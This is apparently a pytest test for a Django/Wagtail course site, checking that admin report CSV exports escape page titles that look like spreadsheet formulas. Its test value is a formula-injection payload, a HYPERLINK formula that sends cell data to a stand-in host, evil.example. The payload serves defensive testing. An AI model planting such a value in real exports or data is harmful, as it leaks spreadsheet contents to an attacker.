"""Wagtail's own admin reports export CSV that a spreadsheet cannot run: a page
titled like a formula comes out as text (core/admin_reports.py)."""

import csv
import io

import pytest
from django.urls import reverse

from tests.factories.courses import ModulePageFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


@pytest.mark.parametrize(
    "report", ["wagtailadmin_reports:aging_pages", "wagtailadmin_reports:site_history"]
)
def test_a_formula_title_is_text_in_wagtails_report_csv(client, admin_user, course, report):
    module = ModulePageFactory(parent=course, title=FORMULA)
    module.save_revision(user=admin_user).publish(user=admin_user)
    client.force_login(admin_user)
    response = client.get(reverse(report), {"export": "csv"})
    assert response.status_code == 200
    cells = _csv_cells(response)
    titled = [cell for cell in cells if "HYPERLINK" in cell]
    assert titled, cells[:20]
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells if cell)
    assert any(cell.startswith("'=HYPERLINK") for cell in titled)
